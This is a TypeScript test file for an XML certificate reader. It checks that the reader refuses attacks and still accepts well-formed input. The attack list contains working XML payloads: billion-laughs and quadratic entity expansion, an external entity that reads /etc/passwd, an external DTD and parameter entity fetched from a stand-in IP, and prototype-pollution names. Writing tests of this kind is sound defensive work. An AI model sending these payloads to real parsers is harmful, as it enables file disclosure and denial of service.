// Attacks on the XML reader, each refused with a sentence, and the well-formed things it must keep.

import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import fc from 'fast-check'
import { dispenserRejection } from './examples.ts'
import { readDcc } from './read.ts'
import { verifyContent } from './verify-content.ts'
import { writeDcc } from './write.ts'
import { readXml, textAt, xmlLimits } from './xml-read.ts'

const utf8 = (text: string) => new TextEncoder().encode(text)
const billionLaughs = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) =>
  `<!ENTITY a${n} "${`&a${n === 0 ? '' : n - 1};`.repeat(10)}">`).join('')}]><l>&a8;</l>`

const attacks: [string, string | Uint8Array, RegExp][] = [
  ['billion laughs', billionLaughs, /DOCTYPE/],
  ['quadratic blow-up', `<!DOCTYPE l [<!ENTITY a "${'x'.repeat(50_000)}">]><l>${'&a;'.repeat(50_000)}</l>`, /DOCTYPE/],
  ['an external entity', '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>', /DOCTYPE/],
  ['an external DTD', '<!DOCTYPE l SYSTEM "http://203.0.113.1/evil.dtd"><l/>', /DOCTYPE/],
  ['a parameter entity', '<!DOCTYPE l [<!ENTITY % p SYSTEM "http://203.0.113.1/p"> %p;]><l/>', /DOCTYPE/],
  ['a DOCTYPE in small letters', '<!doctype html><l/>', /DOCTYPE/],
  ['a DOCTYPE after a megabyte of comment', `<!--${' '.repeat(1_000_000)}--><!DOCTYPE l><l/>`, /DOCTYPE/],
  ['an undeclared entity', '<l>&nbsp;</l>', /not well-formed/],
  ['200,000 nested elements', '<a>'.repeat(200_000), /deeper than 64/],
  ['65 nested elements', `${'<a>'.repeat(65)}${'</a>'.repeat(65)}`, /deeper than 64/],
  ['200,000 attributes', `<a ${Array.from({ length: 200_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`, /more than 256 attributes/],
  ['257 attributes', `<a ${Array.from({ length: 257 }, (_, n) => `a${n}="1"`).join(' ')}/>`, /more than 256 attributes/],
  ['100,001 elements', `<a>${'<b/>'.repeat(100_001)}</a>`, /more than 100000 nodes/],
  ['a huge file', new Uint8Array(xmlLimits.bytes + 1).fill(0x20), /at most 20971520/],
  ['UTF-16', new Uint8Array([0xff, 0xfe, 0x3c, 0, 0x61, 0, 0x2f, 0, 0x3e, 0]), /not UTF-8/],
  ['a lying encoding', '<?xml version="1.0" encoding="UTF-7"?><a/>', /encoding is UTF-7/],
  ['an undeclared prefix', '<dcc:a/>', /not well-formed/],
  ['two roots', '<a/><b/>', /not well-formed/],
  ['a duplicate attribute', '<a x="1" x="2"/>', /not well-formed/],
  ['an unfinished file', '<a><b>', /not well-formed/],
  ['a control character', '<a>\u0001</a>', /not well-formed/],
  ['nothing', '', /not well-formed|no element/],
]

describe('the XML reader', () => {
  for (const [name, input, sentence] of attacks) {
    it(`refuses ${name}`, () => {
      const bytes = typeof input === 'string' ? utf8(input) : input
      const started = process.cpuUsage()
      const read = readXml(bytes)
      assert.ok(!read.ok)
      assert.match(read.reason, sentence)
      assert.ok(process.cpuUsage(started).user < 2_000_000, 'refused within two seconds of work')
      const dcc = readDcc(bytes)
      assert.ok(!dcc.ok)
    })
  }

  it('reads what is well-formed: 64 levels, 256 attributes, CDATA, references, a byte order mark', () => {
    assert.ok(readXml(utf8(`${'<a>'.repeat(64)}${'</a>'.repeat(64)}`)).ok)
    assert.ok(readXml(utf8(`<a ${Array.from({ length: 256 }, (_, n) => `a${n}="1"`).join(' ')}/>`)).ok)
    const read = readXml(utf8('\uFEFF<?xml version="1.0" encoding="utf-8"?><a><b>1 &lt; <![CDATA[2 & ]]>&#x9F9B;</b></a>'))
    assert.ok(read.ok)
    assert.equal(textAt(read.root, 'b'), '1 < 2 & 龛')
  })

  it('keeps hostile names away from prototypes', () => {
    const read = readXml(utf8('<a __proto__="x" constructor="y"><__proto__>z</__proto__></a>'))
    assert.ok(read.ok)
    assert.equal(read.root.attributes.get('__proto__'), 'x')
    assert.equal(textAt(read.root, '__proto__'), 'z')
    assert.equal(Object.getPrototypeOf({}), Object.prototype)
  })

  it('refuses what is no DCC, and versions it does not know', () => {
    const reason = (text: string) => {
      const read = readDcc(utf8(text))
      return read.ok ? '' : read.reason
    }
    assert.match(reason('<a/>'), /root element is a/)
    assert.match(reason('<digitalCalibrationCertificate schemaVersion="1.8.3"/>'), /version 1\.8\.3 is not read/)
    assert.match(reason('<digitalCalibrationCertificate schemaVersion="3.3.0"/>'), /no unique identifier/)
  })

  it('never throws, whatever bytes of a certificate are changed, cut or repeated', () => {
    const whole = writeDcc(dispenserRejection)
    const at = fc.nat({ max: whole.length - 1 })
    const change = fc.record({ from: at, to: at, with: fc.uint8Array({ maxLength: 8 }) })
    fc.assert(fc.property(fc.array(change, { minLength: 1, maxLength: 4 }), changes => {
      let bytes = whole
      for (const { from, to, with: put } of changes) {
        bytes = new Uint8Array([...bytes.subarray(0, from), ...put, ...bytes.subarray(to)].slice(0, 100_000))
      }
      const read = readDcc(bytes)
      if (read.ok) verifyContent(read.dcc)
      else assert.ok(read.reason.length > 0 && read.reason.length < 400)
    }), { numRuns: 150, interruptAfterTimeLimit: 2000 })
  })
})
